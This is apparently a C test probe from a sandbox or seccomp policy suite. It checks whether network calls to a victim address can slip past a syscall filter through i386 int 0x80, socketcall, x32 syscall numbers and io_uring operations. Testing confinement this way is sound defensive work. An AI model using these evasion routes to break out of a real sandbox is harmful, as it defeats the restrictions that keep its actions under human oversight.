/* abi - system calls that don't look like system calls (threats rows 7, 8)
 *
 * usage: abi foreign | ring. foreign: the same calls by another architecture's entry; ring: by io_uring. */
#include "attack.h"

#include <linux/io_uring.h>

enum { OP_SOCKET = 45 /* IORING_OP_SOCKET */, OP_CONNECT = 16, OP_SEND = 26, OP_SENDMSG = 9, X32 = 0x40000000,
      ENTRIES = 8 };

static struct sockaddr_in *to; /* below 4 GiB */

#if defined(__x86_64__)
/* i386: int 0x80 takes ebx, ecx, edx, esi, edi. */
static long int80(long nr, long a, long b, long c)
{
    long result;

    __asm__ volatile("int $0x80" : "=a"(result) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    errno = result < 0 && result > -4096 ? (int)-result : errno;
    return result < 0 && result > -4096 ? -1 : result;
}

static long by_int80(void)
{
    int s = (int)int80(359 /* socket */, AF_INET, SOCK_STREAM, 0);

    return s < 0 ? -1 : int80(362 /* connect */, s, (long)to, sizeof *to);
}

static long by_socketcall(void)
{
    uint32_t *arguments = (uint32_t *)(to + 1);
    int s = socket(AF_INET, SOCK_STREAM, 0);

    arguments[0] = (uint32_t)s;
    arguments[1] = (uint32_t)(uintptr_t)to;
    arguments[2] = sizeof *to;
    return int80(102 /* socketcall */, 3 /* SYS_CONNECT */, (long)arguments, 0);
}

static long by_x32(void)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);

    return syscall(X32 | __NR_connect, s, to, sizeof *to);
}

static long by_x32_sendmsg(void)
{
    struct iovec *payload = (struct iovec *)(to + 4);
    struct msghdr *m = (struct msghdr *)(to + 8);
    int s = socket(AF_INET, SOCK_DGRAM, 0);

    *payload = (struct iovec){to, 4};
    *m = (struct msghdr){.msg_name = to, .msg_namelen = sizeof *to, .msg_iov = payload, .msg_iovlen = 1};
    return syscall(X32 | 518 /* x32's own sendmsg */, s, m, 0);
}
#endif

static long by_minus_one(void)
{
    errno = 0;
    return syscall(-1);
}

static void foreign(void)
{
    to = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (to == MAP_FAILED)
        broken("no low memory: %s", strerror(errno));
    *to = at4(VICTIM, PORT);
#if defined(__x86_64__)
    forbidden_in_child("int 0x80", by_int80);
    forbidden_in_child("int 0x80 socketcall", by_socketcall);
    forbidden_in_child("x32", by_x32);
    forbidden_in_child("x32 sendmsg", by_x32_sendmsg);
#endif
    forbidden_in_child("call -1", by_minus_one);
    permitted_works();
}

static struct ring {
    int fd;
    struct io_uring_params p;
    char *sq, *cq;
    struct io_uring_sqe *sqes;
} ring;

static bool ring_open(void)
{
    ring.fd = (int)tried("io_uring_setup", syscall(__NR_io_uring_setup, ENTRIES, &ring.p));
    if (ring.fd < 0)
        return false;
    size_t sq_len = ring.p.sq_off.array + ring.p.sq_entries * 4;
    size_t cq_len = ring.p.cq_off.cqes + ring.p.cq_entries * sizeof(struct io_uring_cqe);
    ring.sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd, IORING_OFF_SQ_RING);
    ring.cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd, IORING_OFF_CQ_RING);
    ring.sqes = mmap(NULL, ENTRIES * sizeof *ring.sqes, PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd, IORING_OFF_SQES);
    if (ring.sq == MAP_FAILED || ring.cq == MAP_FAILED || ring.sqes == MAP_FAILED)
        broken("no ring: %s", strerror(errno));
    return true;
}

/* Carry out one operation; its result, negative errno included. */
static int ring_do(struct io_uring_sqe op)
{
    uint32_t *tail = (uint32_t *)(ring.sq + ring.p.sq_off.tail), *array = (uint32_t *)(ring.sq + ring.p.sq_off.array);
    uint32_t *head = (uint32_t *)(ring.cq + ring.p.cq_off.head);
    uint32_t mask = *(uint32_t *)(ring.cq + ring.p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(ring.cq + ring.p.cq_off.cqes);
    uint32_t slot = *tail % ring.p.sq_entries;

    ring.sqes[slot] = op;
    array[slot] = slot;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_SEQ_CST);
    if (syscall(__NR_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    int result = cqes[*head & mask].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_SEQ_CST);
    return result;
}

static void ring_answer(const char *what, int result)
{
    answer("%s: %s", what, result < 0 ? strerror(-result) : "done");
}

static void by_ring(void)
{
    static const char text[] = "by ring";
    struct sockaddr_in victim = at4(VICTIM, PORT);
    struct iovec payload = {(void *)(uintptr_t)text, sizeof text - 1};
    struct msghdr m = {.msg_name = &victim, .msg_namelen = sizeof victim, .msg_iov = &payload, .msg_iovlen = 1};
    int tcp = socket(AF_INET, SOCK_STREAM, 0), udp = socket(AF_INET, SOCK_DGRAM, 0);

    if (!ring_open()) {
        tried("io_uring_enter", syscall(__NR_io_uring_enter, 0, 0, 0, 0, NULL, 0));
        tried("io_uring_register", syscall(__NR_io_uring_register, -1, 0, NULL, 0));
        return;
    }
    int made = ring_do((struct io_uring_sqe){.opcode = OP_SOCKET, .fd = AF_INET, .off = SOCK_DGRAM});
    ring_answer("socket", made);
    udp = udp < 0 ? made : udp;
    ring_answer("connect", ring_do((struct io_uring_sqe){.opcode = OP_CONNECT, .fd = tcp, .addr = (uintptr_t)&victim,
                                                         .off = sizeof victim}));
    ring_answer("send", ring_do((struct io_uring_sqe){.opcode = OP_SEND, .fd = tcp, .addr = (uintptr_t)text,
                                                      .len = sizeof text - 1}));
    ring_answer("sendmsg", ring_do((struct io_uring_sqe){.opcode = OP_SENDMSG, .fd = udp, .addr = (uintptr_t)&m,
                                                         .len = 1}));
}

int main(int argc, char **argv)
{
    if (argc == 2 && strcmp(argv[1], "foreign") == 0)
        foreign();
    else if (argc == 2 && strcmp(argv[1], "ring") == 0)
        by_ring();
    else
        broken("usage: abi foreign | ring");
    return attack_done();
}
